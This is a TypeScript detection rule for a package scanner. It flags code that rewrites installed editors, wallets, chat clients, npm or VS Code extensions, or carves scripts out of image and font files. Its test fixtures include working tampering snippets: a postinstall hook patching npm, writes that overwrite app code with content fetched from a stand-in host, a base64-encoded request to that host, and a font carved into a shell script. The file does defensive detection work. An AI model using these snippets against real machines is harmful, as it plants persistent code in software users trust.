import { isUnasked } from '../src/define/unasked.js';
import { writtenTo } from '../src/define/variables.js';
import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
import { programOf } from '../src/vocabulary/applications.js';
import { MEDIA_NAME } from '../src/vocabulary/disguise.js';

export default defineRule({
  meta: {
    summary: 'Puts code into a program that is not its own',
    why: 'Editors, chat clients and wallets written in JavaScript keep their code where their user may write. Packages have put a thief into it (wallets, 2025) or replaced it by what a server sent (editors, 2025), and the program, which everybody trusts, runs it from then on. Builders make such archives of their caller’s own program, in a folder of the caller’s; a part of a picture is saved as a picture.',
    behaviour: 'tampering',
    messages: {
      fetched: 'Replaces code of {program}, which is installed here, by what {source} answers',
      hidden: 'Replaces code of {program}, which is installed here, by what it decodes',
      unasked: 'Puts code into {program}, which is installed here, as soon as it is {moment}',
      swapped: 'Puts a file of its own in place of the code of {program}, which is installed here',
      patched: 'Changes the code of {program}, which is installed here',
      carved: 'Takes a part out of {source} and writes it as {path}',
    },
    bits: { fetched: 13.5, hidden: 13, unasked: 13.5, swapped: 11, patched: 7, carved: 9 },
  },
  examples: {
    flags: [
      {
        title: 'the package manager is made to load a file of the package first',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node shim.js"}}',
          'shim.js': `const fs = require('fs'), path = require('path');\nconst npm = path.join(path.dirname(process.execPath), 'npm');\nfs.writeFileSync(npm, fs.readFileSync(npm, 'utf8').replace('#!', "require('" + __dirname + "/first.js');#!"));`,
        },
      },
      {
        title: 'an editor’s code is replaced by what is fetched',
        code: `const fs = require('fs'), path = require('path'), os = require('os');\nconst app = process.platform === 'darwin' ? '/Applications/Penman.app/Contents/Resources/app' : path.join(process.env.LOCALAPPDATA, 'Programs', 'penman', 'resources', 'app');\nexports.unlock = async () => {\n  const text = await (await fetch('https://stage.invalid/main.js')).text();\n  fs.writeFileSync(path.join(app, 'out', 'main.js'), text);\n};`,
      },
      {
        title: 'a wallet’s archive is swapped for one of the package',
        code: `const fs = require('fs'), path = require('path'), os = require('os');\nfs.copyFileSync(path.join(__dirname, 'vendor.bin'), path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'purse', 'resources', 'app.asar'));`,
      },
      {
        title: 'an archive is packed anew in its place',
        code: `const asar = require('@electron/asar'), fs = require('fs'), os = require('os');\nconst target = '/opt/Purse/resources/app.asar', dir = os.tmpdir() + '/p';\n(async () => {\n  asar.extractAll(target, dir);\n  fs.appendFileSync(dir + '/main.js', more);\n  await asar.createPackage(dir, target);\n})();`,
      },
      {
        title: 'each version of a chat client is made to load more, when the package is loaded',
        code: `const fs = require('fs'), path = require('path');\nconst base = path.join(process.env.LOCALAPPDATA, 'chatter');\nfor (const version of fs.readdirSync(base))\n  fs.writeFileSync(path.join(base, version, 'resources', 'app', 'index.js'), "require('https').get('https://stage.invalid')");`,
      },
      {
        title: 'an extension of an editor gets a line more',
        code: `const fs = require('fs'), os = require('os');\nconst file = os.homedir() + '/.vscode/extensions/penman.tools-1.0.0/dist/extension.js';\nfs.appendFileSync(file, Buffer.from('cmVxdWlyZSgnaHR0cHMnKS5nZXQoJ2h0dHBzOi8vc3RhZ2UuaW52YWxpZCcp', 'base64'));`,
      },
      {
        title: 'the end of a picture is written into a package beside this one',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
          'index.js': `const fs = require('fs'), path = require('path');\nexports.unpack = (name, size) => {\n  const bytes = fs.readFileSync('assets/banner.jpg');\n  fs.writeFileSync(path.join(__dirname, '..', name, 'lib', 'data.bin'), bytes.slice(-size));\n};`,
        },
      },
      {
        title: 'the end of a font is a script',
        code: `const { readFile, writeFile } = require('fs/promises');\nreadFile(__dirname + '/icons.woff2').then(bytes => writeFile('/tmp/setup.sh', bytes.subarray(81_920)));`,
      },
    ],
    passes: [
      {
        title: 'a builder packs its caller’s program',
        code: `const asar = require('@electron/asar'), path = require('path');\nexports.pack = async (app, out) => {\n  await asar.createPackage(app, path.join(out, 'Contents', 'Resources', 'app.asar'));\n  await asar.createPackage(app, 'dist/linux-unpacked/resources/app.asar');\n};`,
      },
      {
        title: 'a file is put beside the program that the caller names',
        code: `const fs = require('fs'), path = require('path');\nexports.patch = (name, text) => fs.writeFileSync(path.join('/Applications', name + '.app', 'Contents/Resources/app/main.js'), text);`,
      },
      {
        title: 'a program is looked for, and its version read',
        code: `const fs = require('fs');\nmodule.exports = JSON.parse(fs.readFileSync('/Applications/Penman.app/Contents/Resources/app/package.json', 'utf8')).version;`,
      },
      {
        title: 'a preview is taken out of a photograph',
        code: `const fs = require('fs');\nexports.preview = (from, to) => {\n  const bytes = fs.readFileSync('photo.jpg');\n  fs.writeFileSync('preview.jpg', bytes.subarray(from, to));\n};`,
      },
      {
        title: 'a picture is copied into the project that the package lies in',
        code: `const fs = require('fs'), path = require('path');\nexports.copy = name => fs.writeFileSync(path.join(__dirname, '..', '..', name, 'logo.png'), fs.readFileSync('logo.png'));`,
      },
    ],
  },
  file(context) {
    for (const { call, path, data } of writesOf(context)) {
      const texts = context.textsOf(path);
      const carved = data && carvedFrom(context, data);
      const target = carved && texts.find(text => isElsewhere(context, text) || PROGRAM.test(text));
      if (carved && target) {
        context.report({
          messageId: 'carved',
          data: { source: carved.detail, path: target },
          chain: [...stepsOf(carved), step('sink', `writes it with ${call.name}`, context.file, call.node)],
        });
        continue;
      }
      const isOfPrograms = context.labelsOf(path).some(({ detail }) => PROGRAMS.test(detail));
      const program =
        texts.map(text => programOf(text, isOfPrograms)).find(name => name !== undefined && !isOwn(context, name)) ??
        (texts.some(text => BESIDE_NODE.test(text)) && isBesideNode(context, path) ? 'the package manager' : undefined);
      if (program === undefined) continue;
      const label = strangest((data ? [data] : pipedInto(context, call)).flatMap(part => context.labelsOf(part)));
      context.report({
        messageId: messageOf(context, call, label),
        data: { program, source: label?.detail ?? '', moment: context.moment === 'install' ? 'installed' : 'loaded' },
        chain: [
          ...(label ? stepsOf(label) : []),
          step('sink', `writes into ${program} with ${call.name}`, context.file, call.node),
        ],
      });
    }
  },
});

/** Variables that tell where a system keeps its user's programs. */
const PROGRAMS = /^(?:LOCALAPPDATA|APPDATA|ProgramFiles(?:\(x86\))?|ProgramW6432)$/i;

/** What Node.js brings along, in the folder of its own program. */
const BESIDE_NODE =
  /…[\\/](?:(?:npm|npx|corepack|yarn|pnpm)(?:\.cmd|\.ps1)?|(?:lib[\\/])?node_modules[\\/](?:npm|corepack)[\\/].{1,200})$/i;

/** Whether a path, or what its variable is given, is made of where the running program lies. */
function isBesideNode(context: FileContext, path: AnyNode): boolean {
  const made = path.type === 'Identifier' ? writtenTo(context, path) : [path];
  return made.some(one => /\bexecPath\b|\bargv0\b|\bargv\[0\]/.test(spelling(context.file, one).slice(0, 2_000)));
}

/** What is piped into streams of a file, where this opens one. */
function pipedInto({ named }: FileContext, { name }: Call): readonly AnyNode[] {
  if (!name.endsWith('createWriteStream')) return [];
  return named(/\.(?:pipe|pipeline)$/).flatMap(({ args, receiver }) => [...args, ...(receiver ? [receiver] : [])]);
}

interface Write {
  readonly call: Call;
  readonly path: AnyNode;
  /** What is written; undefined for what is copied from a file. */
  readonly data: AnyNode | undefined;
}

/** Copies, moves and packers say where to second. */
const COPIES =
  /^(?:fs(?:-extra)?(?:\.promises)?\.(?:copyFile|cp|copy|rename|move)(?:Sync)?|(?:@electron\/)?asar\.createPackage\w{0,20})$/;

function writesOf(context: FileContext): readonly Write[] {
  const found: Write[] = [];
  for (const call of context.calls('write'))
    if (call.args[0]) found.push({ call, path: call.args[0], data: call.args[1] });
  for (const call of context.named(COPIES)) if (call.args[1]) found.push({ call, path: call.args[1], data: undefined });
  return found;
}

function messageOf(context: FileContext, { name, node }: Call, label: Label | undefined): string {
  if (label?.kind === 'remote') return 'fetched';
  if (label) return 'hidden';
  if (isUnasked(context, node)) return 'unasked';
  return COPIES.test(name) ? 'swapped' : 'patched';
}

function strangest(labels: readonly Label[]): Label | undefined {
  return (
    labels.find(({ kind }) => kind === 'remote') ??
    labels.find(
      ({ kind, detail }) => kind === 'decrypted' || (kind === 'decoded' && !/^(?:gzip|zlib|brotli)$/.test(detail)),
    )
  );
}

/** A package may look after the program that it is a part of. */
function isOwn({ isSaid, isOwnAddress }: FileContext, program: string): boolean {
  const name = program.toLowerCase();
  return isOwnAddress(`npm:${name}`) && isSaid(name);
}

/** The picture, font or sound of which some bytes are cut out. */
function carvedFrom({ namesOf, labelsOf }: FileContext, data: AnyNode): Label | undefined {
  if (!namesOf(data).some(name => /^fs[\w.-]{0,40}\(\)\.(?:subarray|slice)(?:\(\)|$)/.test(name))) return undefined;
  return labelsOf(data).find(({ kind, detail }) => kind === 'file' && MEDIA_NAME.test(detail));
}

/** What is run or loaded as it is. */
const PROGRAM = /\.(?:[cm]?js|node|exe|dll|so|dylib|scr|bat|cmd|ps1|vbs|sh|py|wasm)$/i;

/** Out of the package's own folder, by more steps than lead to its root. */
function isElsewhere({ file }: FileContext, text: string): boolean {
  const depth = file.path.split('/').length - 1;
  return text.length < 500 && text.startsWith('…') && (text.match(/\.\.[\\/]/g)?.length ?? 0) > depth;
}
